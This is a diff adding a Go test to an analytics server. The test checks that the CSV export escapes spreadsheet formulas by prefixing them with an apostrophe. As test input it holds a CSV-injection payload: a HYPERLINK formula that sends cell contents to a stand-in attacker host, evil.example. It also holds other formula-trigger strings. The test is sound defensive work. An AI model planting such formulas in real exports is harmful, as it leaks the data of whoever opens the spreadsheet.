@@ -1,9 +1,12 @@
 package server_test
 
 import (
+	"encoding/csv"
 	"encoding/json"
 	"fmt"
 	"net/http"
+	"net/url"
+	"strings"
 	"testing"
 
 	"github.com/omnistat/omnistat/app"
@@ -48,5 +51,36 @@ func TestRealtimeChannelsCountEveryVisitor(t *testing.T) {
 	}
 	if fmt.Sprint(rt.Pages) != "[{/pricing}]" {
 		t.Fatalf("pages %v; want only the viewed page", rt.Pages)
+	}
+}
+
+// A visitor's text that a spreadsheet would run as a formula (OWASP "CSV injection")
+// is exported as text: a leading apostrophe. Numbers stay numbers.
+func TestCSVExportNeutralisesFormulas(t *testing.T) {
+	f := newFixture(t, app.Config{})
+	for i, campaign := range []string{`=HYPERLINK("https://evil.example/?"&A1,"Click")`, "+1+2", "-3", "@SUM(A1)", "spring"} {
+		body := fmt.Sprintf(`{"site":"shop.example","name":"pageview","url":"https://shop.example/?utm_source=news&utm_campaign=%s"}`, url.QueryEscape(campaign))
+		if s, _, out := f.do(http.MethodPost, "/api/event", body, map[string]string{"User-Agent": fmt.Sprintf("%s v%d", chromeUA, i)}); s != 202 {
+			t.Fatalf("event %q: %d %s", campaign, s, out)
+		}
+	}
+	f.stored("SELECT 1")
+	s, _, body := f.do(http.MethodPost, "/api/v1/query", `{"site":"shop.example","date_range":"day","metrics":["visitors"],"dimensions":["campaign"],"format":"csv","order_by":[["campaign","asc"]]}`,
+		map[string]string{"Authorization": "Bearer " + f.key})
+	if s != 200 {
+		t.Fatalf("csv: %d %s", s, body)
+	}
+	rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	got := map[string]string{}
+	for _, r := range rows[1:] {
+		got[r[0]] = r[1]
+	}
+	for _, want := range []string{`'=HYPERLINK("https://evil.example/?"&A1,"Click")`, "'+1+2", "'-3", "'@SUM(A1)", "spring"} {
+		if got[want] != "1" {
+			t.Errorf("no cell %q with 1 visitor in the export:\n%s", want, body)
+		}
 	}
 }
